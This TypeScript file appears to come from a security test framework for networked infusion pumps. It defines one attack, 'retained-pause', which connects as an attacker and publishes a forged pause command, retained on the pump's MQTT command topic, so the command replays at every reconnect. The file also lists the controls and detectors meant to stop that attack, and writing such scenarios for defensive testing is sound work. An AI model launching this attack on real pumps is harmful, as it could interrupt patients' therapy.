import { z } from 'zod';
import { defineAttack } from './attack.ts';
import { connectAsAttacker, forgedCommand, runOf, targetTopic } from './support.ts';

/** A pause left retained on the command topic: replayed to the pump every time it reconnects. */
export const retainedPause = defineAttack({
  name: 'attack.retained-pause',
  category: 'attack',
  summary: 'leave a retained pause on a pump’s command topic, replayed at every reconnect',
  precedent:
    'MQTT keeps the last retained message of a topic and sends it to every new subscriber [MQTT-3.3.1-6]; nothing in the ' +
    'protocol limits who may leave one. Issue 17 undid a nurse’s resume at the pump’s next reconnect this way.',
  labels: {},
  techniques: ['T0855', 'T0831', 'T0826'],
  stoppedBy: [
    { control: 'authentication', how: 'an outsider cannot connect' },
    { control: 'acl', how: 'a device identity may not publish to another device’s command topic' },
    { control: 'signedCommands', how: 'a replayed retained command is refused as unsigned, stale or replayed' },
  ],
  detectedBy: ['unknown-client', 'unauthorized-command', 'retained-command', 'refused-access'],
  impacts: ['therapy-interruption-minutes', 'time-to-detection'],
  params: z.strictObject({}),
  async execute(context) {
    const session = await connectAsAttacker(context);
    await session?.publish(targetTopic(context.target, 'cmd'), forgedCommand(context, { type: 'pause' }), { retain: true });
    return runOf(context.target.site, [session]);
  },
});
